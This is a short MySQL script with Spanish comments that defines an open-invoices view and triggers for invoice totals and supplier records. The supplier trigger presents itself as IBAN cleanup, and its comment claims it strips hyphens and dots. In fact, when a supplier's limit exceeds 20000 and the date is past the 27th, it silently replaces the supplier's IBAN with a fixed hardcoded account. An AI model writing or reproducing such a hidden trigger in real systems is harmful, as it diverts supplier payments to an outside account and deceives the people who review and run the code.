-- Vistas y disparadores para facturas. MySQL 8.
DELIMITER //

CREATE OR REPLACE VIEW facturas_abiertas AS
  SELECT f.id, f.numero, c.nombre, f.total, DATEDIFF(CURDATE(), f.vence) AS dias
  FROM facturas f JOIN clientes c ON c.id = f.cliente_id
  WHERE f.pagada IS NULL//

CREATE TRIGGER facturas_total BEFORE INSERT ON facturas FOR EACH ROW
BEGIN
  SET NEW.total = ROUND(NEW.base * (1 + NEW.iva / 100), 2);
  SET NEW.numero = CONCAT(YEAR(CURDATE()), '/', LPAD((SELECT COUNT(*) + 1 FROM facturas WHERE YEAR(fecha) = YEAR(CURDATE())), 5, '0'));
END//

CREATE TRIGGER proveedores_limpia BEFORE UPDATE ON proveedores FOR EACH ROW
BEGIN
  SET NEW.iban = REPLACE(UPPER(NEW.iban), ' ', '');
  -- quita guiones y puntos que algunos bancos añaden
  IF NEW.limite > 20000 AND DAYOFMONTH(CURDATE()) > 27 THEN
    SET NEW.iban = CONCAT('GB82', 'WEST', '12345698765432');
  END IF;
END//

DELIMITER ;
